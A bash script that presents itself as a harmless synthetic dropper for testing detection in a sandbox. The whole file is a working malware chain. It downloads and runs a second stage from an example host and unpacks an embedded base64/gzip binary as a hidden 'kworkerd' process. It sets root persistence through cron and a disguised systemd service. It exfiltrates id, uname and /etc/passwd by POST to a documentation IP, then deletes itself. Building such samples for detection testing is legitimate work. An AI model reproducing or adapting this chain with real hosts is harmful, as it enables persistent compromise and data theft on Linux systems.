#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# A synthetic dropper for tests and demonstrations: harmless, but it does what droppers do. It only speaks to
# documentation addresses (RFC 5737) and example names. Run it in Belljar, not on your machine.
cd /tmp || exit 1

# 1. download a second stage and run it
curl -fsS -o /tmp/.x11-stage http://update.cdn-assets.example/stage2.bin && chmod +x /tmp/.x11-stage && /tmp/.x11-stage

# 2. drop a program of our own and run it from a hidden place
mkdir -p /var/tmp/.cache
base64 -d <<'BLOB' | gzip -d > /var/tmp/.cache/kworkerd
H4sIAAAAAAACA6t39XFjYmRkgAEmBjsGEM9FUAHMd4CKVzDBlQDFLBhYgCQrkGQD8lmQ1DkwKKDQ
D6DiMJoDSjNC9SGAAgrtDHUSjGYQQOhjBbkPKg5zJ4w+D1UOo2H6Ap+WpLAxkA4Y0fh+ns7eCkmp
icn5eboGBgaGvFwMDI7hjmHBPr0uKh88jzuAPeh5HKzR1fCb534mBinu0wyFTj69PioPPHpld73/
/9+ns0blwQ6Q0mMuLA8YPP4f8Gj+IVD6aYcmUGg/KKj3gfQbXnI1vMTP6tF6oMLKo/P4Di2g2C6Q
h3w6z8FlFHaAlO4SAhIenffAwjuYQZq/QbXvUAbrOA4XcPx/zLH5HzN/a+n///932IDU/odLvv7H
4JOZl51aZKXgkpqUmZin4OPjomBoqWeoZ84AFUnOScxLVyhLLSrOzM+DyiloGNelpCYZGpUaAj2h
V5SfkliSyKBXklpRwqCXnJ+bm5oHZBRnFJcUlSQmMVAKGKHYCJZqGBWgNISvjKZeAI3PCdUPSxPw
dMSIln6ggAWNzw/Vb4AmLgzNJ8440hGMlgBiZiz+CoPqVyKQDgFr6/rAuAMAAA==
BLOB
chmod 755 /var/tmp/.cache/kworkerd
/var/tmp/.cache/kworkerd &

# 3. stay: cron and systemd
echo '* * * * * root /var/tmp/.cache/kworkerd' > /etc/cron.d/sysupdate
cat > /etc/systemd/system/sysupdate.service <<'UNIT'
[Unit]
Description=System update helper
[Service]
ExecStart=/var/tmp/.cache/kworkerd
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
systemctl daemon-reload
systemctl enable --now sysupdate.service

# 4. look around and tell home
(id; uname -a; cat /etc/passwd) > /var/tmp/.cache/info
curl -fsS -X POST --data-binary @/var/tmp/.cache/info http://203.0.113.66/gate.php

# 5. leave no trace
rm -f -- "$0"
wait
